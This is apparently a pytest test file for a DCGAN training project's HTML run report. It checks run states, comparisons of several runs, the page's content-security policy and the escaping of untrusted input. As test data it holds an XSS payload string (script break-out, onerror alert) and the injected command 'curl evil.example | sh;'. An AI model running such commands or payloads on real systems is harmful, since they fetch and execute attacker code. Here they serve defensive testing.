"""A run told as a page: what it says of runs in any state, and what cannot get into it."""

from __future__ import annotations

import errno
import json
import re
import shutil
import threading
import time
from collections.abc import Sequence
from contextlib import ExitStack
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from dist_dcgan import drawing, report
from dist_dcgan.config import Config, read_preset
from dist_dcgan.pages import charts, pictures, told
from dist_dcgan.run import history
from dist_dcgan.run.directory import RunDirectory, locked
from dist_dcgan.run.starts import Start, how_it_ended, read_starts
from shards.common.command_line import build
from shards.common.locks import Lock
from tests.support.commands import metrics, module, succeed, train_command
from tests.support.mistakes import refusal

EVIL = "</script ></script><script>alert(1)</script><img src=x onerror=alert(2)>&quot;\"'"


@pytest.fixture(scope="module")
def finished(demo_shards: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of 6 steps, the last two of a second start by two ranks, with three grids; not to be changed."""
    run_dir = tmp_path_factory.mktemp("finished") / "run"
    flags = ["--preset", "debug", "--width", 4, "--wandb", "disabled", "--data", demo_shards, "--run-dir", run_dir]
    flags += ["--log.samples-every-images", 32, "--quality.extractor", "none"]
    first = succeed(train_command(1, *flags, "--max-steps", 4))
    assert f"python -m dist_dcgan.report {run_dir}" in first.stderr
    succeed(train_command(2, *flags, "--max-steps", 6))
    return run_dir


@pytest.fixture
def copied(finished: Path, tmp_path: Path) -> Path:
    """A copy of that run to be changed."""
    return Path(shutil.copytree(finished, tmp_path / "run"))


class Page(HTMLParser):
    """What a browser would find in a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def of(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.tags if name == tag]


def page_of(*run_dirs: Path, out: Path) -> Page:
    report.main([*map(str, run_dirs), "--out", str(out)])
    return Page(out.read_text())


def data_of(page: Page) -> dict[str, Any]:
    found = re.search(r'\{"panels":.*', page.text)
    assert found is not None
    content: dict[str, Any] = json.loads(found[0])
    return content


def add_rows(run_dir: Path, rows: Sequence[dict[str, Any]]) -> None:
    with (run_dir / "metrics.jsonl").open("a") as file:
        file.writelines(json.dumps(row) + "\n" for row in rows)


def test_each_start_is_recorded(finished: Path, demo_shards: Path) -> None:
    first, second = read_starts(RunDirectory(finished))
    assert (first.step, first.last, first.ranks, first.total_steps) == (0, None, 1, 4)
    assert (second.step, second.last, second.ranks, second.total_steps) == (4, "finished after step 4", 2, 6)
    assert second.command.startswith("torchrun --nproc_per_node=2 -m dist_dcgan.train --preset debug")
    assert first.command.startswith("python -m dist_dcgan.train") and "--max-steps 4" in first.command
    assert sum(second.hosts.values()) == sum(second.devices.values()) == 2
    assert second.precision == "fp32" and {"torch", "Python", "dist_dcgan"} <= second.versions.keys()
    manifest = json.loads((demo_shards / "manifest.json").read_text())
    assert (second.data["digest"], second.data["samples"]) == (manifest["digest"], 96)


def test_a_page_tells_the_run(finished: Path, demo_shards: Path, tmp_path: Path) -> None:
    page = page_of(finished, out=tmp_path / "report.html")
    for words in (f"{demo_shards}: 96 images of 64 pixels", "preset debug, seed 0; width: 16 -> 4, max_steps: 20 -> 6"):
        assert words in page.text
    for words in ("step 6 of 6", "finished", "started again from step 4, with 2 ranks", "finished after step 4"):
        assert words in page.text
    assert "To go on" not in page.text
    assert f"torchrun --nproc_per_node=2 -m dist_dcgan.train --config {finished}/config.yaml" in page.text
    data = data_of(page)
    loss = data["panels"][0]["curves"][0]
    rows = [row for row in metrics(finished) if "loss/d" in row]
    assert loss["images"] == [row["images_seen"] for row in rows]
    assert loss["y"] == pytest.approx([row["loss/d"] for row in rows], rel=1e-4)
    assert [mark["images"] for mark in data["marks"]] == [64]
    pictures = page.of("img")
    assert len(pictures) == 1 + 3 and all(str(picture["alt"]).strip() for picture in pictures)
    assert all(str(picture["src"]).startswith("data:image/webp;base64,") for picture in pictures)
    assert [figure.get("class") for figure in page.of("figure")] == [None, "key", "key", "key"]


def test_a_page_holds_all_that_it_needs(finished: Path, tmp_path: Path) -> None:
    page = page_of(finished, out=tmp_path / "report.html")
    addresses = [
        value for _, each in page.tags for name, value in each.items() if name in ("src", "href", "data", "action")
    ]
    assert all(str(address).startswith("data:") for address in addresses)
    (policy,) = (
        str(each["content"]) for each in page.of("meta") if each.get("http-equiv") == "Content-Security-Policy"
    )
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-") and "unsafe" not in policy
    assert not [name for _, each in page.tags for name in each if name.startswith("on") or name == "style"]


def test_a_page_is_written_beside_the_run_and_replaces_only_pages(copied: Path, tmp_path: Path) -> None:
    report.main([str(copied)])
    out = copied / "report.html"
    before = out.stat().st_ino
    report.main([str(copied)])
    assert out.stat().st_ino != before
    out.write_text("mine")
    assert "exists and is no report" in refusal(report.main, copied)
    assert out.read_text() == "mine"
    assert "ends in .html" in refusal(report.main, copied, "--out", tmp_path / "x.pdf")
    assert "no folder" in refusal(report.main, copied, "--out", tmp_path / "no" / "x.html")
    (tmp_path / "link").symlink_to(copied)
    for same in (copied, tmp_path / "link"):
        assert "named twice" in refusal(report.main, copied, same, "--out", tmp_path / "x.html")


def test_runs_in_any_state_are_told(copied: Path, tmp_path: Path) -> None:
    with locked(copied):
        assert "running, at step 6" in page_of(copied, out=tmp_path / "running.html").text
    (copied / "STOPPED").touch()
    starts = (copied / "starts.jsonl").read_text()
    (copied / "starts.jsonl").write_text(starts.replace("torchrun --nproc_per_node=2", "curl evil.example | sh;"))
    stopped = page_of(copied, out=tmp_path / "stopped.html").text
    assert "stopped by a signal after step 6" in stopped and "To go on: torchrun --nproc_per_node=2" in stopped
    (copied / "STOPPED").unlink()
    with (copied / "metrics.jsonl").open("a") as file:
        file.write('{"step": 9, "images_seen": 144, "loss/d": null}\n{"step": 10, "images_se')
    died = page_of(copied, out=tmp_path / "died.html")
    assert "ended without a word after step 9" in died.text
    assert data_of(died)["panels"][0]["curves"][0]["y"][-1] is None


def test_a_run_from_before_there_was_a_record_is_told(copied: Path, tmp_path: Path) -> None:
    (copied / "starts.jsonl").unlink()
    shutil.rmtree(copied / "samples")
    for name in ("generator_ema.safetensors", "generator_ema.json"):
        (copied / name).unlink()
    shutil.rmtree(copied / "checkpoints")
    text = page_of(copied, out=tmp_path / "old.html").text
    assert "Starts: not recorded" in text and "No pictures yet." in text and "no exported generator" in text
    assert "To go on: python -m dist_dcgan.train --world-size 1 --config" in text


def test_what_is_no_run_gives_one_line(copied: Path, tmp_path: Path) -> None:
    assert "holds no config.yaml" in refusal(report.main, tmp_path)
    (copied / "metrics.jsonl").write_text("")
    assert "has not logged a step yet" in refusal(report.main, copied)


def test_several_runs_are_compared(finished: Path, copied: Path, tmp_path: Path) -> None:
    third = Path(shutil.copytree(finished, tmp_path / "third"))
    for seed, path in enumerate((copied, third), 1):
        config = (path / "config.yaml").read_text()
        (path / "config.yaml").write_text(config.replace("seed: 0", f"seed: {seed}"))
        add_rows(path, [{"step": 7, "images_seen": 112, "quality/kid_x": 0.1 * seed, "quality/kid_x_std": 0.01}])
    page = page_of(finished, copied, third, out=tmp_path / "three.html")
    assert page.text.index("Settings that differ") < page.text.index("Pictures")
    assert (
        "finished-" not in page.text
        and "mean and standard deviation" in page.text
        and "150 ± 71 (of 2 seeds)" in page.text
    )
    add_rows(third, [{"step": 8, "images_seen": 128, "quality/kid_x": 0.1, "quality/kid_x_std": 0.01}])
    further = page_of(copied, third, out=tmp_path / "further.html")
    assert "mean and standard deviation" not in further.text  # after as many images only
    panels = data_of(page)["panels"]
    assert [curve["label"] for curve in panels[0]["curves"]] == told.names_of([finished, copied, third])
    assert len({curve["colour"] for curve in panels[0]["curves"]}) == 3
    config = (copied / "config.yaml").read_text()
    (copied / "config.yaml").write_text(config.replace("width: 4", "width: 2"))
    other = page_of(copied, third, out=tmp_path / "widths.html")
    assert "width" in other.text and "mean and standard deviation" not in other.text


def test_real_images_stand_beside_generated_ones(
    copied: Path, demo_shards: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    config = (copied / "config.yaml").read_text()
    (copied / "config.yaml").write_text(re.sub(r"reals: \d+", "reals: 16", config))
    report.main([str(copied), "--data", str(demo_shards), "--out", str(tmp_path / "x.html")])
    text = (tmp_path / "x.html").read_text()
    assert "real images of" in text and "the nearest of 16 real images" in text


def test_nothing_from_a_run_becomes_code(copied: Path, tmp_path: Path) -> None:
    """Each string that reaches the page from files that may come from others."""
    evil = tmp_path / ("evil" + EVIL.replace("/", ""))
    copied.rename(evil)
    config = (evil / "config.yaml").read_text()
    (evil / "config.yaml").write_text(re.sub(r"path: .*", "path: " + json.dumps(EVIL), config))
    start = Start(
        time=EVIL, step=2, last=EVIL, command=EVIL, hosts={EVIL: 1}, devices={EVIL: 1}, ranks=1, precision=EVIL,
        data={"name": EVIL, "digest": EVIL, "samples": 1, "image_size": EVIL}, scores={"extractor": EVIL},
        versions={EVIL: EVIL}, commit=EVIL,
    )  # fmt: skip
    (evil / "starts.jsonl").write_text(start.model_dump_json() + "\n")
    add_rows(
        evil, [{"step": 6, "alert": EVIL + "\n" + EVIL}, {"step": 7, "images_seen": 112, EVIL: 1.0, "loss/d": 1.0}]
    )
    add_rows(evil, [{"step": 8, "images_seen": 128, "quality/kid_x": 0.5, "quality/" + EVIL: 1.0}])
    page = page_of(evil, out=tmp_path / "report.html")
    assert [each.get("type") for each in page.of("script")] == ["application/json", None]
    assert len(page.of("style")) == 1 and not [each for each in page.of("img") if each.get("src") == "x"]
    assert not [name for _, each in page.tags for name in each if name.startswith("on")]
    (data,) = re.findall('id="data">(.*)', (tmp_path / "report.html").read_text())
    assert EVIL[2:9] in data and data.count("<") == 1 and data.endswith("</script>")
    assert page.text.count("alert(1)") >= 8  # as text, and so the test has been where it wanted


def test_no_secret_and_no_home_gets_into_a_page(copied: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOME_TOKEN", "a-sentinel-of-the-environment")
    monkeypatch.setenv("PLAIN", "another-sentinel")
    monkeypatch.setenv("HOME", str(copied.parent))
    config = (copied / "config.yaml").read_text()
    secret = "https://user:pass-sentinel@example.org/data?signature=query-sentinel"
    (copied / "config.yaml").write_text(re.sub(r"path: .*", f"path: {secret}", config))
    add_rows(copied, [{"step": 6, "alert": f"a-sentinel-of-the-environment {secret}"}])
    text = (page_of(copied, out=tmp_path / "report.html")).text
    assert "sentinel" not in text and "https://example.org/data" in text
    assert str(copied.parent) not in text and "~/run/config.yaml" in text


@pytest.mark.parametrize(
    ("preset", "width"), [("paper", 128), ("narrow", 64), ("few_images", 64), ("quickstart", 32), ("debug", 16)]
)
def test_a_run_is_told_by_the_preset_of_its_width(preset: str, width: int) -> None:
    config = build(Config, read_preset(preset) | {"global_batch": 16, "max_steps": 24}, "preset")
    nearest, departures = told.departures_from_preset(config)
    assert nearest == preset and config.width == width
    assert {line.partition(":")[0] for line in departures} <= {"global_batch", "max_steps"}


def test_large_grids_are_left_out_until_they_fit(copied: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for step in range(1, 301):
        Image.effect_noise((64, 64), 90).save(copied / "samples" / f"step-{step:08d}.png")
    assert len(page_of(copied, out=tmp_path / "many.html").of("figure")) == 1 + 100
    monkeypatch.setattr("dist_dcgan.pages.pictures.MOST_BYTES", 20_000)
    page_of(copied, out=tmp_path / "few.html")
    captions = re.findall(r"after ([\d,]+) images", (tmp_path / "few.html").read_text())
    assert (tmp_path / "few.html").stat().st_size < 200_000 and 2 <= len(captions) <= 20
    assert (captions[0], captions[-1]) == ("16", "4,800")


def test_the_command_is_wired(finished: Path, tmp_path: Path) -> None:
    done = succeed(module("dist_dcgan.report", finished, "--out", tmp_path / "r.html"))
    assert done.stdout == f"this run in {tmp_path / 'r.html'}\n"


def test_a_stop_is_not_taken_for_the_end(copied: Path, tmp_path: Path) -> None:
    """A stop exports, too: a start that dies before it has logged a row leaves that export and no marker."""
    lines = (copied / "starts.jsonl").read_text().splitlines()
    start = json.loads(lines[-1]) | {"step": 6, "last": "stopped by a signal after step 6", "total_steps": 20}
    (copied / "starts.jsonl").write_text("\n".join([*lines, json.dumps(start)]) + "\n")
    text = page_of(copied, out=tmp_path / "r.html").text
    assert "ended without a word after step 6" in text and "To go on" in text
    assert how_it_ended(RunDirectory(copied)) == "died after step 6"


def test_looking_at_a_run_does_not_keep_it_from_starting(tmp_path: Path) -> None:
    (tmp_path / "run.lock").touch()
    with Lock(tmp_path / "run.lock") as looking:
        assert looking.take(shared=True)
        threading.Timer(0.08, looking.release).start()
        with locked(tmp_path):
            pass


def test_a_run_whose_lock_is_closed_to_us_is_not_called_dead(
    copied: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_rows(copied, [{"step": 9, "images_seen": 144, "loss/d": 1.0}])
    monkeypatch.setattr(history, "is_locked", lambda run: False)
    monkeypatch.setattr(history, "may_look_at_lock", lambda run: False)
    text = page_of(copied, out=tmp_path / "r.html").text
    assert "running, or ended without a word, at step 9" in text and "To go on" not in text


@pytest.mark.parametrize(
    "rows",
    [
        [{"step": 9 * 10**15, "images_seen": 9 * 10**15, "time/step": 1e299}, {"step": 9 * 10**15, "alert": "x"}],
        [{"step": 9, "images_seen": 144, "grad_norm/d": 1e-320, "loss/d": 1e299, "quality/kid_x": 1e299}],
        [{"step": 9, "images_seen": 144, "quality/kid_x": 1.0}, {"step": 10, "images_seen": 160, "quality/kid_y": 1.0}],
    ],
)
def test_wild_numbers_are_told(copied: Path, tmp_path: Path, rows: list[dict[str, Any]]) -> None:
    add_rows(copied, rows)
    start = json.loads((copied / "starts.jsonl").read_text().splitlines()[-1])
    (copied / "starts.jsonl").write_text(json.dumps(start | {"data": {"samples": "many"}}) + "\n")
    page_of(copied, out=tmp_path / "r.html")
    table = told.score_table(told.read_run(copied, "x"))
    assert len({tuple(row) for row in table}) <= 1


def test_scores_are_compared_with_those_of_the_same_network(copied: Path, tmp_path: Path) -> None:
    """`quality/kid` is that of the network of FID."""
    kids = {"quality/kid_x": 0.1, "quality/kid_x_std": 0.01}, {"quality/kid": 0.3}, {"quality/kid": 0.2}
    add_rows(copied, [{"step": 9 + n, "images_seen": 16 * (9 + n)} | kid for n, kid in enumerate(kids)])
    run = told.read_run(copied, "x")
    assert told.quality_line(run) == "1000 KID 200 after 176 images (by inception)"
    assert [point.value for point in charts.points(run.log.rows, "kid")] == [0.3, 0.2]


def test_of_thousands_of_alerts_the_first_are_told(copied: Path, tmp_path: Path) -> None:
    add_rows(copied, [{"step": 1 + index % 6, "alert": f"alert {index}"} for index in range(3000)])
    page = page_of(copied, out=tmp_path / "r.html")
    assert len(data_of(page)["marks"]) == 1 + told.MOST_ALERTS + 1 and "2,800 more alerts from here on" in page.text


def test_a_run_may_be_named_by_a_dot(copied: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(copied)
    assert f"--run-dir {copied}-again" in page_of(Path(), out=tmp_path / "r.html").text


def test_what_cannot_be_read_gives_one_line(copied: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def closed(path: Path) -> None:
        raise PermissionError(errno.EACCES, "Permission denied", str(path))

    monkeypatch.setattr(Path, "iterdir", closed)
    assert refusal(report.main, copied).endswith("samples cannot be read: Permission denied")


def test_a_run_that_goes_on_is_watched_to_its_end(
    copied: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out, lock, seen = tmp_path / "r.html", ExitStack(), list[str]()
    lock.enter_context(locked(copied))

    def wait(seconds: float) -> None:
        seen.append(out.read_text())
        add_rows(copied, [{"step": 6 + len(seen), "images_seen": 96 + len(seen), "loss/d": 1.0}])
        if len(seen) == 2:
            lock.close()

    monkeypatch.setattr(time, "sleep", wait)
    report.main([str(copied), "--out", str(out), "--watch"])
    assert ["running, at step 6" in seen[0], "running, at step 7" in seen[1], len(seen)] == [True, True, 2]
    assert all('id="reload"' in page for page in seen) and 'id="reload"' not in out.read_text()
    assert "ended without a word after step 8" in out.read_text()


def test_a_run_that_begins_is_waited_for_if_it_is_watched(
    copied: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    out, lock, log = tmp_path / "r.html", ExitStack(), copied / "metrics.jsonl"
    rows = log.read_text()
    log.unlink()
    nothing = f"the run in {copied} has not logged a step yet: nothing to report"
    assert nothing in refusal(report.main, copied, "--watch")  # as it is not in training
    lock.enter_context(locked(copied))
    assert nothing in refusal(report.main, copied)

    def wait(seconds: float) -> None:
        if log.exists():
            lock.close()
        log.write_text(rows)

    monkeypatch.setattr(time, "sleep", wait)
    report.main([str(copied), "--out", str(out), "--watch"])
    assert f"{nothing}; again in 30 seconds" in capsys.readouterr().err and out.exists()


def test_grids_that_would_take_gigabytes_are_left_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    Image.new("RGB", (64, 65)).save(tmp_path / "x.png")
    assert pictures.read_grids({1: tmp_path / "x.png"}).keys() == {1}
    monkeypatch.setattr(drawing, "_MOST_PIXELS", 64 * 64)
    assert pictures.read_grids({1: tmp_path / "x.png"}) == {}
